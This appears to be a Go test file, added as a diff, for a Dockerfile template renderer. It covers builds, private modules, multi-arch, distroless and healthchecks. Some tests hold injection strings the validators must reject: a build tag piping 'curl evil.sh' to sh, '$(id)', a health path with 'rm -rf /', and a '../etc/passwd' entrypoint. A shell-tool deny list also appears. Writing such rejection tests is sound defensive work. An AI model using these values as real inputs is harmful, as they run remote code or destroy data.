@@ -0,0 +1,559 @@
+package packaging
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestRenderGo(t *testing.T) {
+	out, err := Render("go", Vars{ServiceName: "billing", ExposePort: 9090, Package: "./cmd/billing"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := string(out)
+	for _, want := range []string{
+		"# billing Dockerfile",
+		" -o /app/billing ./cmd/billing",
+		"go build -o /app/healthprobe ./cmd/healthprobe",
+		"COPY --from=builder /app/billing /app/healthprobe ./",
+		"EXPOSE 9090",
+		`CMD ["./billing"]`,
+	} {
+		if !strings.Contains(s, want) {
+			t.Errorf("rendered Dockerfile missing %q:\n%s", want, s)
+		}
+	}
+	if strings.Contains(s, "{{") || strings.Contains(s, "Variables:") {
+		t.Errorf("template markup leaked into output:\n%s", s)
+	}
+}
+
+func TestRenderRejectsInvalidVars(t *testing.T) {
+	for _, v := range []Vars{
+		{ServiceName: "", ExposePort: 80},
+		{ServiceName: "Billing", ExposePort: 80},
+		{ServiceName: "billing", ExposePort: 0},
+		{ServiceName: "billing", ExposePort: 70000},
+	} {
+		if _, err := Render("go", v); err == nil {
+			t.Errorf("Render(%+v) succeeded, want error", v)
+		}
+	}
+	if _, err := Render("cobol", Vars{ServiceName: "billing", ExposePort: 80}); err == nil {
+		t.Error("unknown language accepted")
+	}
+}
+
+func TestDiff(t *testing.T) {
+	if d := Diff("a", "b", []byte("x\ny\n"), []byte("x\ny\n")); d != "" {
+		t.Fatalf("identical inputs produced diff %q", d)
+	}
+	d := Diff("a", "b", []byte("1\n2\n3\n4\n5\n6\n7\n"), []byte("1\n2\n3\nfour\n5\n6\n7\n"))
+	want := "--- a\n+++ b\n 2\n 3\n-4\n+four\n 5\n 6\n"
+	if d != want {
+		t.Fatalf("Diff =\n%s\nwant\n%s", d, want)
+	}
+}
+
+func TestRenderTemplateSampleService(t *testing.T) {
+	out, err := RenderTemplate("Dockerfile.go.tmpl", map[string]string{
+		"ServiceName": "admissions-api",
+		"ExposePort":  "8080",
+		"BinaryName":  "admissions-api",
+		"Package":     "./cmd/admissions-api",
+		"GoVersion":   "1.22",
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	assertValidDockerfile(t, out)
+	for _, want := range []string{"FROM --platform=$BUILDPLATFORM golang:1.22-alpine AS builder", "EXPOSE 8080"} {
+		if !strings.Contains(string(out), want) {
+			t.Errorf("missing %q:\n%s", want, out)
+		}
+	}
+}
+
+func TestRenderTemplateMissingVariables(t *testing.T) {
+	_, err := RenderTemplate("Dockerfile.go", map[string]string{"ServiceName": "billing", "ExposePort": ""})
+	if err == nil {
+		t.Fatal("render with missing variables succeeded")
+	}
+	for _, name := range []string{"BinaryName", "ExposePort", "GoVersion", "Package"} {
+		if !strings.Contains(err.Error(), name) {
+			t.Errorf("error %q does not name missing variable %s", err, name)
+		}
+	}
+}
+
+// assertValidDockerfile checks that every instruction is one Docker knows
+// and that the file starts with FROM; it is not a full parser.
+func assertValidDockerfile(t *testing.T, data []byte) {
+	t.Helper()
+	known := map[string]bool{
+		"FROM": true, "WORKDIR": true, "COPY": true, "RUN": true, "USER": true, "EXPOSE": true,
+		"CMD": true, "ENTRYPOINT": true, "ENV": true, "ARG": true, "HEALTHCHECK": true, "LABEL": true,
+	}
+	first := ""
+	continued := false
+	for i, line := range strings.Split(string(data), "\n") {
+		line = strings.TrimSpace(line)
+		if line == "" || strings.HasPrefix(line, "#") {
+			continue
+		}
+		if strings.Contains(line, "{{") || strings.Contains(line, "<no value>") {
+			t.Fatalf("line %d has unrendered markup: %q", i+1, line)
+		}
+		wasContinued := continued
+		if continued = strings.HasSuffix(line, "\\"); wasContinued {
+			continue
+		}
+		instr, _, _ := strings.Cut(line, " ")
+		if !known[instr] {
+			t.Fatalf("line %d: unknown instruction %q", i+1, instr)
+		}
+		// Only global ARGs may precede the first FROM.
+		if first == "" && instr != "ARG" {
+			first = instr
+		}
+	}
+	if first != "FROM" {
+		t.Fatalf("first instruction is %q, want FROM", first)
+	}
+}
+
+func TestRenderPrivateModules(t *testing.T) {
+	public, err := Render("go", Vars{ServiceName: "billing", ExposePort: 9090})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, unwanted := range []string{"syntax=", "GOPRIVATE", "GONOSUMDB", "--mount", "git", "netrc"} {
+		if strings.Contains(string(public), unwanted) {
+			t.Errorf("public render mentions %q:\n%s", unwanted, public)
+		}
+	}
+	if !strings.Contains(string(public), "COPY go.mod go.sum ./\nRUN go mod download\n") {
+		t.Errorf("public render changed the download step:\n%s", public)
+	}
+
+	private, err := Render("go", Vars{
+		ServiceName: "billing", ExposePort: 9090,
+		PrivateModules: []string{"github.com/acme/*", "*.corp.example.com"},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	assertValidDockerfile(t, private)
+	if !strings.HasPrefix(string(private), "# syntax=docker/dockerfile:1\n") {
+		t.Errorf("private render must start with the syntax directive:\n%s", private)
+	}
+	for _, want := range []string{
+		"RUN apk add --no-cache git openssh-client",
+		"ARG GOPRIVATE=github.com/acme/*,*.corp.example.com",
+		"ENV GOPRIVATE=${GOPRIVATE} GONOSUMDB=${GOPRIVATE}",
+		"RUN --mount=type=secret,id=netrc,target=/root/.netrc \\\n    --mount=type=ssh \\\n",
+		`git config --global url."ssh://git@github.com/".insteadOf "https://github.com/";`,
+		"go mod download\nCOPY . .",
+	} {
+		if !strings.Contains(string(private), want) {
+			t.Errorf("private render missing %q:\n%s", want, private)
+		}
+	}
+	if strings.Contains(string(private), "corp.example.com/") {
+		t.Errorf("wildcard host rewritten for git:\n%s", private)
+	}
+
+	for _, bad := range []string{"", "github.com/acme/*,evil", "example.com/x y", `example.com/"`} {
+		if _, err := Render("go", Vars{ServiceName: "billing", ExposePort: 9090, PrivateModules: []string{bad}}); err == nil {
+			t.Errorf("private module pattern %q accepted", bad)
+		}
+	}
+	if _, err := Render("node", Vars{ServiceName: "portal", ExposePort: 3000, PrivateModules: []string{"github.com/acme/*"}}); err == nil {
+		t.Error("node render accepted private Go modules")
+	}
+}
+
+func TestRenderCacheMounts(t *testing.T) {
+	mounts := []string{"--mount=type=cache,target=/go/pkg/mod", "--mount=type=cache,target=/root/.cache/go-build"}
+	plain, err := Render("go", Vars{ServiceName: "billing", ExposePort: 9090})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, unwanted := range append([]string{"syntax="}, mounts...) {
+		if strings.Contains(string(plain), unwanted) {
+			t.Errorf("render without UseCacheMounts mentions %q:\n%s", unwanted, plain)
+		}
+	}
+
+	for _, v := range []Vars{
+		{ServiceName: "billing", ExposePort: 9090, UseCacheMounts: true},
+		{ServiceName: "billing", ExposePort: 9090, UseCacheMounts: true, PrivateModules: []string{"github.com/acme/*"}},
+	} {
+		cached, err := Render("go", v)
+		if err != nil {
+			t.Fatal(err)
+		}
+		assertValidDockerfile(t, cached)
+		if !strings.HasPrefix(string(cached), "# syntax=docker/dockerfile:1\n") {
+			t.Errorf("cached render must start with the syntax directive:\n%s", cached)
+		}
+		if n := strings.Count(string(cached), "# syntax="); n != 1 {
+			t.Errorf("syntax directive appears %d times:\n%s", n, cached)
+		}
+		var download, builds int
+		for _, line := range strings.Split(string(cached), "\n") {
+			switch {
+			case strings.Contains(line, "go build"):
+				builds++
+				for _, m := range mounts {
+					if !strings.Contains(line, m) {
+						t.Errorf("build step missing %q: %s", m, line)
+					}
+				}
+			case strings.Contains(line, "--mount=type=cache,target=/go/pkg/mod"):
+				download++
+			}
+		}
+		if builds != 2 {
+			t.Errorf("found %d go build steps, want the service and healthprobe", builds)
+		}
+		if download != 1 {
+			t.Errorf("module cache mounted on %d non-build lines, want only go mod download:\n%s", download, cached)
+		}
+	}
+
+	if _, err := Render("node", Vars{ServiceName: "portal", ExposePort: 3000, UseCacheMounts: true}); err == nil {
+		t.Error("node render accepted cache mounts")
+	}
+}
+
+func TestRenderSharedBuilder(t *testing.T) {
+	out, err := Render("go", Vars{ServiceName: "billing", ExposePort: 9090, SharedBuilder: true, UseCacheMounts: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	assertValidDockerfile(t, out)
+	for _, want := range []string{
+		"\nARG BUILDER=golang:1.22-alpine\nFROM --platform=$BUILDPLATFORM ${BUILDER} AS builder\n",
+		"RUN --mount=type=cache,target=/root/.cache/go-build CGO_ENABLED=0",
+		"\nRUN go mod download\n",
+	} {
+		if !strings.Contains(string(out), want) {
+			t.Errorf("shared builder render missing %q:\n%s", want, out)
+		}
+	}
+	// Mounting the module cache would hide the modules baked into the
+	// builder.
+	if strings.Contains(string(out), "target=/go/pkg/mod") {
+		t.Errorf("shared builder render mounts the module cache:\n%s", out)
+	}
+	if base, ok := SharedBuilderBase(out); !ok || base != "golang:1.22-alpine" {
+		t.Errorf("SharedBuilderBase = %q, %v", base, ok)
+	}
+
+	multi, err := RenderMultiArch(Vars{ServiceName: "billing", ExposePort: 9090, SharedBuilder: true}, []string{"amd64", "arm64"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	assertValidDockerfile(t, multi)
+	if n := strings.Count(string(multi), "ARG BUILDER="); n != 1 {
+		t.Errorf("multi-arch render declares BUILDER %d times:\n%s", n, multi)
+	}
+	if n := strings.Count(string(multi), "FROM --platform=$BUILDPLATFORM ${BUILDER} AS builder-"); n != 2 {
+		t.Errorf("multi-arch render starts %d builders from BUILDER:\n%s", n, multi)
+	}
+
+	for _, v := range []Vars{
+		{ServiceName: "billing", ExposePort: 9090, SharedBuilder: true, CGO: true},
+		{ServiceName: "billing", ExposePort: 9090, SharedBuilder: true, PrivateModules: []string{"github.com/acme/*"}},
+	} {
+		if _, err := Render("go", v); err == nil {
+			t.Errorf("render accepted the shared builder with %+v", v)
+		}
+	}
+	if _, err := Render("node", Vars{ServiceName: "portal", ExposePort: 3000, SharedBuilder: true}); err == nil {
+		t.Error("node render accepted the shared builder")
+	}
+}
+
+func TestRenderBuildTags(t *testing.T) {
+	for _, tc := range []struct {
+		tags []string
+		want string
+	}{
+		{nil, " go build -ldflags "},
+		{[]string{"enterprise"}, ` go build -tags "enterprise" -ldflags `},
+		{[]string{"enterprise", "netgo", "go1.22"}, ` go build -tags "enterprise,netgo,go1.22" -ldflags `},
+	} {
+		out, err := Render("go", Vars{ServiceName: "billing", ExposePort: 8080, BuildTags: tc.tags})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if s := string(out); !strings.Contains(s, tc.want) {
+			t.Errorf("tags %q: rendered Dockerfile missing %q:\n%s", tc.tags, tc.want, s)
+		}
+		if len(tc.tags) == 0 && strings.Contains(string(out), "-tags") {
+			t.Errorf("no tags rendered a -tags flag:\n%s", out)
+		}
+	}
+	for _, tag := range []string{`enterprise"; curl evil.sh | sh; echo "`, "enterprise netgo", "$(id)", "a,b", ""} {
+		if _, err := Render("go", Vars{ServiceName: "billing", ExposePort: 8080, BuildTags: []string{tag}}); err == nil || !strings.Contains(err.Error(), "invalid build tag") {
+			t.Errorf("build tag %q: %v, want rejected", tag, err)
+		}
+	}
+}
+
+func TestRenderTargetArch(t *testing.T) {
+	native, err := Render("go", Vars{ServiceName: "billing", ExposePort: 9090})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{"ARG TARGETOS=linux", "ARG TARGETARCH", "GOOS=$TARGETOS GOARCH=$TARGETARCH go build", "FROM alpine:3.19\n"} {
+		if !strings.Contains(string(native), want) {
+			t.Errorf("native render missing %q:\n%s", want, native)
+		}
+	}
+
+	out, err := Render("go", Vars{ServiceName: "billing", ExposePort: 9090, TargetArch: "arm64"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	assertValidDockerfile(t, out)
+	for _, want := range []string{
+		"FROM --platform=$BUILDPLATFORM golang:1.22-alpine AS builder-arm64",
+		"GOOS=linux GOARCH=arm64 go build",
+		"FROM --platform=linux/arm64 alpine:3.19 AS runtime-arm64",
+		"COPY --from=builder-arm64 /app/billing /app/healthprobe ./",
+	} {
+		if !strings.Contains(string(out), want) {
+			t.Errorf("missing %q:\n%s", want, out)
+		}
+	}
+
+	if _, err := Render("go", Vars{ServiceName: "billing", ExposePort: 9090, TargetArch: "mips"}); err == nil {
+		t.Error("unsupported architecture accepted")
+	}
+}
+
+func TestRenderMultiArch(t *testing.T) {
+	out, err := RenderMultiArch(Vars{ServiceName: "billing", ExposePort: 9090}, []string{"amd64", "arm64"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	assertValidDockerfile(t, out)
+	s := string(out)
+	for _, arch := range []string{"amd64", "arm64"} {
+		if !strings.Contains(s, "GOARCH="+arch) || !strings.Contains(s, "AS runtime-"+arch) {
+			t.Errorf("missing %s stanza:\n%s", arch, s)
+		}
+	}
+	if n := strings.Count(s, "# billing Dockerfile"); n != 1 {
+		t.Errorf("header emitted %d times", n)
+	}
+	if _, err := RenderMultiArch(Vars{ServiceName: "billing", ExposePort: 9090}, []string{"arm64", "arm64"}); err == nil {
+		t.Error("duplicate architecture accepted")
+	}
+}
+
+func TestRenderTemplateOptionalVariables(t *testing.T) {
+	vars := map[string]string{
+		"ServiceName": "billing", "ExposePort": "9090", "BinaryName": "billing", "Package": ".", "GoVersion": "1.22",
+	}
+	out, err := RenderTemplate("Dockerfile.go.tmpl", vars)
+	if err != nil {
+		t.Fatalf("optional TargetArch treated as required: %v", err)
+	}
+	if strings.Contains(string(out), "GOARCH=arm64") || strings.Contains(string(out), "AS runtime") {
+		t.Errorf("unset TargetArch rendered a pinned architecture:\n%s", out)
+	}
+}
+
+func TestRenderDistrolessVariant(t *testing.T) {
+	base := Vars{ServiceName: "billing", ExposePort: 9090}
+	alpine, err := Render("go", base)
+	if err != nil {
+		t.Fatal(err)
+	}
+	base.Base = BaseDistroless
+	distroless, err := Render("go", base)
+	if err != nil {
+		t.Fatal(err)
+	}
+	assertValidDockerfile(t, distroless)
+
+	d := Diff("alpine", "distroless", alpine, distroless)
+	for _, want := range []string{
+		"-FROM alpine:3.19",
+		"+FROM gcr.io/distroless/static-debian12:nonroot",
+		"+COPY --from=builder /etc/ssl/certs/ca-certificates.crt /etc/ssl/certs/",
+		"-USER nobody",
+		`-CMD ["./billing"]`,
+		`+ENTRYPOINT ["/app/billing"]`,
+	} {
+		if !strings.Contains(d, want+"\n") {
+			t.Errorf("diff missing %q:\n%s", want, d)
+		}
+	}
+	if strings.Contains(d, "+EXPOSE") || strings.Contains(d, "-EXPOSE") || strings.Contains(d, "+HEALTHCHECK") || strings.Contains(d, "-HEALTHCHECK") || strings.Contains(d, "-RUN") {
+		t.Errorf("variants should share the build stage, EXPOSE, and HEALTHCHECK:\n%s", d)
+	}
+	if strings.Contains(string(distroless), "zoneinfo") {
+		t.Error("tzdata copied without --with-tzdata")
+	}
+
+	base.WithTzdata = true
+	withTZ, err := Render("go", base)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{"RUN apk add --no-cache tzdata", "COPY --from=builder /usr/share/zoneinfo /usr/share/zoneinfo"} {
+		if !strings.Contains(string(withTZ), want) {
+			t.Errorf("tzdata render missing %q:\n%s", want, withTZ)
+		}
+	}
+
+	if _, err := Render("go", Vars{ServiceName: "billing", ExposePort: 9090, Base: "ubuntu"}); err == nil {
+		t.Error("unknown base accepted")
+	}
+}
+
+func TestRenderDistrolessRuntimeHasNoShell(t *testing.T) {
+	for _, v := range []Vars{
+		{ServiceName: "billing", ExposePort: 9090, Base: BaseDistroless},
+		{ServiceName: "billing", ExposePort: 9090, Base: BaseDistroless, WithTzdata: true},
+		{ServiceName: "billing", ExposePort: 9090, Base: BaseDistroless, TargetArch: "arm64"},
+	} {
+		out, err := Render("go", v)
+		if err != nil {
+			t.Fatal(err)
+		}
+		s := string(out)
+		runtime := s[strings.LastIndex(s, "\nFROM "):]
+		for _, bad := range []string{"RUN ", "apk", "/bin/sh", "sh -c", "SHELL", "wget", "curl", "CMD-SHELL"} {
+			if strings.Contains(runtime, bad) {
+				t.Errorf("%+v: distroless runtime stage references %q:\n%s", v, bad, runtime)
+			}
+		}
+		if want := `CMD ["/app/healthprobe", "-timeout", "3s", "http://localhost:9090/healthz"]`; !strings.Contains(runtime, want) {
+			t.Errorf("%+v: HEALTHCHECK should exec the compiled probe, want %q:\n%s", v, want, runtime)
+		}
+	}
+}
+
+func TestRenderNode(t *testing.T) {
+	out, err := Render("node", Vars{ServiceName: "portal", ExposePort: 3000})
+	if err != nil {
+		t.Fatal(err)
+	}
+	assertValidDockerfile(t, out)
+	s := string(out)
+	for _, want := range []string{
+		"# portal Dockerfile",
+		"FROM node:22-alpine AS builder",
+		"RUN pnpm install --frozen-lockfile",
+		"COPY --from=builder --chown=node:node /app/dist ./dist",
+		"USER node",
+		"EXPOSE 3000",
+		`CMD ["node", "dist/index.mjs"]`,
+	} {
+		if !strings.Contains(s, want) {
+			t.Errorf("missing %q:\n%s", want, s)
+		}
+	}
+
+	for _, v := range []Vars{
+		{ServiceName: "portal", ExposePort: 3000, TargetArch: "arm64"},
+		{ServiceName: "portal", ExposePort: 3000, Base: BaseDistroless},
+		{ServiceName: "portal", ExposePort: 3000, Entrypoint: "../etc/passwd.js"},
+	} {
+		if _, err := Render("node", v); err == nil {
+			t.Errorf("Render(node, %+v) succeeded, want error", v)
+		}
+	}
+}
+
+func TestCheckLanguage(t *testing.T) {
+	goDir, nodeDir := t.TempDir(), t.TempDir()
+	if err := os.WriteFile(filepath.Join(goDir, "go.mod"), []byte("module x\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := CheckLanguage(goDir, "node"); err == nil {
+		t.Error("--lang node accepted for a directory with go.mod")
+	}
+	if err := CheckLanguage(goDir, "go"); err != nil {
+		t.Error(err)
+	}
+	if err := CheckLanguage(nodeDir, "node"); err != nil {
+		t.Error(err)
+	}
+}
+
+func TestRenderMetricsPort(t *testing.T) {
+	for _, tc := range []struct {
+		lang string
+		vars Vars
+	}{
+		{"go", Vars{ServiceName: "billing", ExposePort: 9090, MetricsPort: 9464}},
+		{"go", Vars{ServiceName: "billing", ExposePort: 9090, MetricsPort: 9464, Base: BaseDistroless}},
+		{"node", Vars{ServiceName: "billing", ExposePort: 9090, MetricsPort: 9464}},
+	} {
+		out, err := Render(tc.lang, tc.vars)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !strings.Contains(string(out), "\nEXPOSE 9090 9464\n") {
+			t.Errorf("%s %+v: metrics port not exposed:\n%s", tc.lang, tc.vars, out)
+		}
+		if !strings.Contains(string(out), "http://localhost:9090/healthz") {
+			t.Errorf("%s %+v: HEALTHCHECK moved off the service port", tc.lang, tc.vars)
+		}
+	}
+	out, err := Render("go", Vars{ServiceName: "billing", ExposePort: 9090})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(string(out), "\nEXPOSE 9090\n") {
+		t.Errorf("without a metrics port EXPOSE changed:\n%s", out)
+	}
+	for _, port := range []int{9090, -1, 70000} {
+		if _, err := Render("go", Vars{ServiceName: "billing", ExposePort: 9090, MetricsPort: port}); err == nil {
+			t.Errorf("metrics port %d accepted", port)
+		}
+	}
+}
+
+func TestRenderHealthcheck(t *testing.T) {
+	out, err := Render("go", Vars{ServiceName: "billing", ExposePort: 9090})
+	if err != nil {
+		t.Fatal(err)
+	}
+	assertValidDockerfile(t, out)
+	if want := `HEALTHCHECK --interval=30s --timeout=3s --retries=3 \
+  CMD ["/app/healthprobe", "-timeout", "3s", "http://localhost:9090/healthz"]`; !strings.Contains(string(out), want) {
+		t.Errorf("default HEALTHCHECK missing, want %q:\n%s", want, out)
+	}
+
+	out, err = Render("go", Vars{
+		ServiceName: "billing", ExposePort: 9090,
+		HealthPath: "/health", HealthInterval: "10s", HealthTimeout: "2s", HealthRetries: 5,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := `HEALTHCHECK --interval=10s --timeout=2s --retries=5 \
+  CMD ["/app/healthprobe", "-timeout", "2s", "http://localhost:9090/health"]`; !strings.Contains(string(out), want) {
+		t.Errorf("HEALTHCHECK ignores overrides, want %q:\n%s", want, out)
+	}
+
+	for _, v := range []Vars{
+		{ServiceName: "billing", ExposePort: 9090, HealthPath: "health"},
+		{ServiceName: "billing", ExposePort: 9090, HealthPath: `/"; rm -rf /`},
+		{ServiceName: "billing", ExposePort: 9090, HealthInterval: "often"},
+	} {
+		if _, err := Render("go", v); err == nil {
+			t.Errorf("Render(%+v) succeeded, want error", v)
+		}
+	}
+}